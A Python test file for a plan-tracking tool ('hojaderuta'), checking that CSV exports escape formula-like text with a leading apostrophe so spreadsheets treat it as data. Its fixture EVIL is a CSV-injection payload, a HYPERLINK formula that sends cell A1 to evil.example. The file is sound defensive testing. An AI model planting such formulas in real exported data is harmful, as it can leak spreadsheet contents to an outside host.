"""Every CSV hdr writes opens in a spreadsheet as data: a name is never run as a formula.

A commitment, an institution or a hito named like a formula gets a leading «'» (OWASP),
in ``publicar``'s open data, ``exportar``, ``avance`` and ``historial``; numbers stay
numbers and JSON keeps the text as written.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from hojaderuta.cli import app
from hojaderuta.text.csvcell import csv_cell, csv_row, csv_text, csv_text_back, fixed
from hojaderuta.text.safetext import has_surrogates

from . import historial_util as h
from .conftest import require_tool

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"x")'
EVIL_INST = "+Secretaría de Movilidad"
EVIL_HITO = "-Inventario de datos"
AL = "2026-11-21"
ARCHIVO_01 = "compromisos/01-movilidad-datos-abiertos.yaml"


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def evil_plan(plan_copy: Path) -> Path:
    """Commitment 1 named like a formula, with an institution and a hito that are too."""
    path = plan_copy / ARCHIVO_01
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^nombre: .*$", f"nombre: '{EVIL}'", text, count=1)
    text = text.replace(
        "institucion: Secretaría de Movilidad de Valle Ejemplo", f"institucion: '{EVIL_INST}'"
    )
    text = text.replace(
        "  - nombre: Inventario de datos de movilidad y plan de apertura",
        f"  - nombre: '{EVIL_HITO}'",
    )
    path.write_text(text, encoding="utf-8")
    return plan_copy


def test_text_cells_that_would_run_get_an_apostrophe() -> None:
    for text in ("=1+1", "+52 722", "-1", "@SUM(A1)", "\t=1", "\r=1", EVIL):
        assert csv_text(text) == "'" + text
        assert csv_text_back(csv_text(text)) == text
    for text in ("hola", "'hola", "1-2", "", "a=b", "'", "2026-11-21"):
        assert csv_text(text) == text
        assert csv_text_back(text) == text
    # What a user wrote with an apostrophe of their own comes back exactly.
    assert csv_text("'=x") == "''=x" and csv_text_back("''=x") == "'=x"


def test_numbers_stay_numbers_by_type_not_by_text() -> None:
    assert csv_cell(-16.7) == -16.7
    assert csv_cell(-3) == -3
    assert csv_row(["-16.7", -16.7, fixed(-16.7), None]) == [
        "'-16.7",
        -16.7,
        Decimal("-16.70"),
        None,
    ]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(csv_row([fixed(-16.7), fixed(12.5), "-x"]))
    assert out.getvalue() == "-16.70,12.50,'-x\n"


def test_published_open_data(evil_plan: Path, tmp_path: Path, runner: CliRunner) -> None:
    out = tmp_path / "sitio"
    result = runner.invoke(app, ["publicar", str(evil_plan), "--salida", str(out), "--al", AL])
    assert result.exit_code == 0, result.output
    datos = out / "datos"
    first = rows((datos / "compromisos.csv").read_text(encoding="utf-8"))[0]
    assert first["nombre"] == "'" + EVIL
    assert first["responsables"].startswith("'" + EVIL_INST)
    assert first["avance"] == "100.00" and first["numero"] == "1"
    hito = rows((datos / "hitos.csv").read_text(encoding="utf-8"))[0]
    assert hito["nombre"] == "'" + EVIL_HITO
    assert hito["institucion"] == "'" + EVIL_INST
    assert re.fullmatch(r"\d+(\.\d+)?", hito["ponderacion"])
    plan = json.loads((datos / "plan.json").read_text(encoding="utf-8"))
    assert plan["compromisos"][0]["hoja_de_ruta"]["nombre"] == EVIL  # JSON: as written
    page = (datos / "index.html").read_text(encoding="utf-8")
    assert "apóstrofo" in page


def test_exportar_csv_and_back(evil_plan: Path, tmp_path: Path, runner: CliRunner) -> None:
    folder = tmp_path / "hojas"
    result = runner.invoke(
        app, ["exportar", str(evil_plan), "--formato", "csv", "--salida", str(folder)]
    )
    assert result.exit_code == 0, result.output
    first = rows((folder / "compromisos.csv").read_text(encoding="utf-8-sig"))[0]
    assert first["nombre"] == "'" + EVIL
    assert first["responsables"].startswith("'" + EVIL_INST)
    hito = rows((folder / "hitos.csv").read_text(encoding="utf-8-sig"))[0]
    assert hito["nombre"] == "'" + EVIL_HITO
    assert re.fullmatch(r"\d+(\.\d+)?", hito["ponderacion"])
    before = (evil_plan / ARCHIVO_01).read_bytes()
    done = runner.invoke(app, ["importar", str(folder), "--plan", str(evil_plan)])
    assert done.exit_code == 0, done.output
    assert "Sin cambios" in done.output  # the apostrophe is hdr's, not a change
    assert (evil_plan / ARCHIVO_01).read_bytes() == before


def test_avance_csv(evil_plan: Path, runner: CliRunner) -> None:
    base = ["avance", str(evil_plan), "--al", AL, "--formato", "csv"]
    plan = runner.invoke(app, base)
    assert plan.exit_code == 0, plan.output
    first = rows(plan.stdout)[0]
    assert first["nombre"] == "'" + EVIL and first["avance"] == "100.00"
    assert first["responsables"].startswith("'" + EVIL_INST)
    one = runner.invoke(app, [*base, "--compromiso", "1"])
    assert rows(one.stdout)[0]["nombre"] == "'" + EVIL_HITO
    groups = runner.invoke(app, [*base, "--por", "institucion"])
    names = [r["institucion"] for r in rows(groups.stdout)]
    assert "'" + EVIL_INST in names and EVIL_INST not in names


def test_historial_csv(tmp_path: Path, runner: CliRunner) -> None:
    plan = h.new_repo(tmp_path / "repo")
    root = plan.parent
    data = h.compromiso(1)
    h.write(plan, "compromisos/01.yaml", data)
    h.commit(root, "Primera versión", "2020-01-10T10:00:00Z", author="@evil <e@example.org>")
    data["hitos"][0]["nombre"] = EVIL_HITO
    data["hitos"][0]["ponderacion"], data["hitos"][1]["ponderacion"] = 30, 70
    h.write(plan, "compromisos/01.yaml", data)
    h.commit(root, EVIL, "2020-02-10T10:00:00Z")
    result = runner.invoke(app, ["historial", str(plan), "--formato", "csv"])
    assert result.exit_code == 0, result.output
    events = rows(result.stdout)
    assert events[0]["autor"].startswith("'@evil")
    assert {e["mensaje"] for e in events} >= {"'" + EVIL}
    renamed = next(e for e in events if e["campo"] == "/hitos/0/nombre")
    assert (renamed["antes"], renamed["despues"]) == ("Hito 1", "'" + EVIL_HITO)
    weight = next(e for e in events if e["campo"] == "/hitos/0/ponderacion")
    assert (weight["antes"], weight["despues"]) == ("40", "30")  # numbers, no apostrophe


def test_a_spreadsheet_reads_text_not_formulas(
    evil_plan: Path, tmp_path: Path, runner: CliRunner
) -> None:
    soffice = require_tool("soffice")
    out = tmp_path / "sitio"
    result = runner.invoke(app, ["publicar", str(evil_plan), "--salida", str(out), "--al", AL])
    assert result.exit_code == 0, result.output
    converted = tmp_path / "convertido"
    profile = (tmp_path / "perfil").as_uri()
    for name in ("compromisos.csv", "hitos.csv"):
        subprocess.run(
            [soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "xlsx",
             "--infilter=CSV:44,34,76,1", "--outdir", str(converted), str(out / "datos" / name)],
            check=True, capture_output=True, timeout=300,
        )  # fmt: skip
    sheet = openpyxl.load_workbook(converted / "compromisos.xlsx").active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + EVIL and c.data_type == "s" for c in cells)
    assert any(c.value == 100 and c.data_type == "n" for c in cells)  # avance: a number
    hitos = openpyxl.load_workbook(converted / "hitos.xlsx").active
    assert hitos is not None
    assert not [c.coordinate for row in hitos.iter_rows() for c in row if c.data_type == "f"]


# Text cells of any character, often with what a spreadsheet would run. Lone surrogates
# (bytes that were not UTF-8) are rare in what hypothesis draws: the examples bring them.
_CHARACTER = st.one_of(st.characters(), st.sampled_from(["=", "'", "\t", "-", "@"]))
_CELL = st.one_of(st.none(), st.text(_CHARACTER, max_size=6))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(_CELL, st.integers(-5, 5)), max_size=6))
@example([("\udcff=", 1), ("=x", 2), (None, 3), ("\ud800", 4), ("\t\x01", 5)])
@example([("=\udcff\x01", -1)])
def test_a_table_checked_once_is_what_each_cell_checked_gives(cells: list[Any]) -> None:
    """Open data tables look for bytes that were not UTF-8 once in the whole text (and
    write it again cell by cell only then): the same file as ``csv_text`` on every cell."""
    from hojaderuta.publish.opendata import _csv

    columns = [("texto", "string", "Texto"), ("numero", "integer", "Número")]
    table = [list(row) for row in cells]
    expected = io.StringIO()
    expected.write("\ufeff")
    writer = csv.writer(expected, lineterminator="\n")
    writer.writerow(["texto", "numero"])
    for text, number in table:
        writer.writerow(["" if text is None else csv_text(text), number])
    assert _csv(table, columns) == expected.getvalue()
    assert not has_surrogates(_csv(table, columns))
